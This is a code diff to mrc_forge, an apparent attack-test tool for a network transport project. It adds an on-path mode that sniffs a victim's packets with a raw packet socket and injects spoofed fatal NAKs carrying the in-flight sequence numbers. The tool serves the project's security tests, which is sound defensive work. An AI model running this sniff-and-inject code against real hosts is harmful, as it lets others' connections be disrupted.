@@ -1,9 +1,11 @@
-// mrc_forge: a blind attacker for the attack tests (tests/security/). It knows the addresses and
-// the software but no secret: it sweeps QPNs from 0x10 and PSNs in steps, and builds every packet
-// with the project's own encoder (so the tests follow the wire format wherever it goes).
+// mrc_forge: an attacker for the attack tests (tests/security/). It knows the addresses and the
+// software but no secret. Blind, it sweeps QPNs from 0x10 and PSNs in steps; on the path (--watch),
+// it reads the PSNs off the victim's own data packets. It builds every packet with the project's own
+// encoder (so the tests follow the wire format wherever it goes).
 //
 //   mrc_forge --mode write|nak|unexp|port-status --to ADDR[:PORT][,ADDR[:PORT]...] --from ADDR
 //             [--spoof] [--qpn LO-HI] [--psn-step N] [--mask M] [--repeat N] [--max N] [--pps N]
+//             [--watch IFACE|any] [--timeout S]
 //
 // write        WRITE_ONLY with a wrong rkey at every PSN step (the responder NAKs the real peer)
 // nak          AETH NAK "remote access error" at every PSN step, straight to a requester
@@ -13,7 +15,17 @@
 // address is local, so that is the peer's own address); with --spoof, from a raw IPv4 socket that
 // writes --from into the IP header (root), for an attacker on another host. --pps paces the sweep
 // (a flood faster than the target drains its socket would mostly be dropped by the kernel).
+//
+// --watch (nak only; root): an on-path attacker. A packet socket on IFACE (any: every interface of
+// this network namespace) sees the data packets the first --to address sends to --from; for each of
+// --repeat of them, a NAK naming its PSN goes straight back to --to, while that PSN is certainly in
+// flight. A blind sweep hits the window only by chance (the tests' check that forged NAKs reached the
+// QP needs one hit); this hits it every time. Exit status 1 if fewer than --repeat data packets went
+// by within --timeout seconds (default 10).
 #include <arpa/inet.h>
+#include <linux/if_packet.h>
+#include <net/ethernet.h>
+#include <net/if.h>
 #include <netinet/in.h>
 #include <netinet/ip.h>
 #include <netinet/udp.h>
@@ -48,6 +60,8 @@ struct Options {
   std::uint32_t repeat = 1;
   std::uint64_t max = 2'000'000;
   std::uint64_t pps = 0;  ///< 0 = as fast as the socket takes them
+  std::string watch;      ///< on-path: the interface to read the victim's PSNs on ("" = blind)
+  double timeout_s = 10;  ///< --watch: how long to wait for --repeat data packets
 };
 
 [[noreturn]] void usage(const char* why) {
@@ -109,6 +123,10 @@ Options parse(int argc, char** argv) {
       o.max = number(val(), "bad --max");
     } else if (a == "--pps") {
       o.pps = number(val(), "bad --pps");
+    } else if (a == "--watch") {
+      o.watch = val();
+    } else if (a == "--timeout") {
+      o.timeout_s = static_cast<double>(number(val(), "bad --timeout"));
     } else {
       usage(("unknown argument " + a).c_str());
     }
@@ -117,6 +135,7 @@ Options parse(int argc, char** argv) {
   if (o.psn_step == 0 || o.qpn_hi < o.qpn_lo) usage("bad --psn-step or --qpn");
   if (o.mode != "write" && o.mode != "nak" && o.mode != "unexp" && o.mode != "port-status")
     usage("bad --mode");
+  if (!o.watch.empty() && o.mode != "nak") usage("--watch goes with --mode nak");
   return o;
 }
 
@@ -134,6 +153,12 @@ std::uint16_t udp_checksum(in_addr src, in_addr dst, const std::uint8_t* udp, st
   while (sum >> 16) sum = (sum & 0xFFFF) + (sum >> 16);
   const auto c = static_cast<std::uint16_t>(~sum);
   return c == 0 ? 0xFFFF : c;
+}
+
+double now_s() {
+  timespec t{};
+  ::clock_gettime(CLOCK_MONOTONIC, &t);
+  return static_cast<double>(t.tv_sec) + static_cast<double>(t.tv_nsec) * 1e-9;
 }
 
 class Sender {
@@ -202,11 +227,6 @@ class Sender {
   std::uint64_t sent_ = 0, errors_ = 0;
 
  private:
-  static double now_s() {
-    timespec t{};
-    ::clock_gettime(CLOCK_MONOTONIC, &t);
-    return static_cast<double>(t.tv_sec) + static_cast<double>(t.tv_nsec) * 1e-9;
-  }
   /// Keeps the average rate at --pps: every 32 packets, sleeps until they are due.
   void pace() {
     if (o_.pps == 0 || (sent_ & 31) != 0) return;
@@ -225,6 +245,55 @@ class Sender {
   sockaddr_in me_{};  ///< the bound address and port (without --spoof)
 };
 
+/// --watch: the PSNs of the data packets `victim` sends to `peer`, read by a packet socket (IP
+/// layer, no link header) on one interface or all of them.
+class Watcher {
+ public:
+  Watcher(const std::string& iface, in_addr victim, in_addr peer) : victim_(victim), peer_(peer) {
+    fd_ = ::socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
+    if (fd_ < 0) {
+      std::perror("mrc_forge: --watch needs a packet socket (root)");
+      std::exit(1);
+    }
+    if (iface != "any") {
+      sockaddr_ll ll{};
+      ll.sll_family = AF_PACKET;
+      ll.sll_protocol = htons(ETH_P_IP);
+      ll.sll_ifindex = static_cast<int>(::if_nametoindex(iface.c_str()));
+      if (ll.sll_ifindex == 0 || ::bind(fd_, reinterpret_cast<const sockaddr*>(&ll), sizeof ll) != 0) {
+        std::fprintf(stderr, "mrc_forge: --watch %s: no such interface here\n", iface.c_str());
+        std::exit(1);
+      }
+    }
+    const timeval tick{0, 100'000};  // wake up to check the deadline
+    ::setsockopt(fd_, SOL_SOCKET, SO_RCVTIMEO, &tick, sizeof tick);
+  }
+  ~Watcher() { ::close(fd_); }
+  /// The PSN of the next data packet seen before `deadline` (CLOCK_MONOTONIC seconds), or -1.
+  std::int64_t next_psn(double deadline) {
+    alignas(8) std::uint8_t b[512];  // the headers are all it reads (a longer packet is truncated)
+    while (now_s() < deadline) {
+      const ssize_t n = ::recv(fd_, b, sizeof b, 0);
+      if (n < static_cast<ssize_t>(sizeof(iphdr))) continue;
+      iphdr ip;
+      std::memcpy(&ip, b, sizeof ip);
+      const std::size_t bth = std::size_t{ip.ihl} * 4 + sizeof(udphdr);
+      if (ip.version != 4 || ip.protocol != IPPROTO_UDP || ip.saddr != victim_.s_addr ||
+          ip.daddr != peer_.s_addr || static_cast<std::size_t>(n) < bth + 12)
+        continue;
+      if (!wire::is_data(static_cast<wire::Opcode>(b[bth]))) continue;
+      ++seen_;
+      return std::int64_t{b[bth + 9]} << 16 | std::int64_t{b[bth + 10]} << 8 | b[bth + 11];  // BTH PSN
+    }
+    return -1;
+  }
+  std::uint64_t seen_ = 0;
+
+ private:
+  int fd_ = -1;
+  in_addr victim_, peer_;
+};
+
 std::vector<std::uint8_t> encode(const wire::Packet& p) {
   std::vector<std::uint8_t> b(wire::kMaxHeaderSize + p.payload.size() + 8);
   wire::Error err = wire::Error::kOk;
@@ -239,9 +308,44 @@ std::vector<std::uint8_t> encode(const wire::Packet& p) {
 
 }  // namespace
 
+/// --watch: a fatal NAK for each of --repeat PSNs the victim has in flight (a PSN seen twice, on
+/// its way in and out of a router, is named once).
+int nak_on_path(const Options& o, Sender& s) {
+  Watcher w(o.watch, o.to.front().sin_addr, o.from);
+  const double deadline = now_s() + o.timeout_s;
+  std::int64_t last = -1;
+  std::uint32_t named = 0;
+  while (named < o.repeat) {
+    const std::int64_t psn = w.next_psn(deadline);
+    if (psn < 0) break;
+    if (psn == last) continue;
+    last = psn;
+    wire::Packet p;
+    p.bth.opcode = wire::Opcode::kAck;
+    p.bth.dest_qp = o.qpn_lo;
+    p.bth.psn = static_cast<std::uint32_t>(psn);
+    p.aeth.syndrome = wire::aeth::kNakRemoteAccessError;
+    s.send(encode(p), o.to.front());
+    ++s.sent_;
+    ++named;
+  }
+  std::printf(
+      "mrc_forge: nak on path (%s): %llu data packets seen, %u PSNs in flight named, %llu refused by "
+      "the kernel\n",
+      o.watch.c_str(), static_cast<unsigned long long>(w.seen_), named,
+      static_cast<unsigned long long>(s.errors_));
+  if (named < o.repeat) {
+    std::fprintf(stderr, "mrc_forge: --watch: only %u of %u data packets went by in %.0f s\n", named,
+                 o.repeat, o.timeout_s);
+    return 1;
+  }
+  return 0;
+}
+
 int main(int argc, char** argv) {
   const Options o = parse(argc, argv);
   Sender s(o);
+  if (!o.watch.empty()) return nak_on_path(o, s);
   Rng rng(0xF0F0 ^ o.psn_step);
   static const std::uint8_t junk[64] = {};
   for (std::uint32_t rep = 0; rep < o.repeat && s.sent_ < o.max; ++rep) {
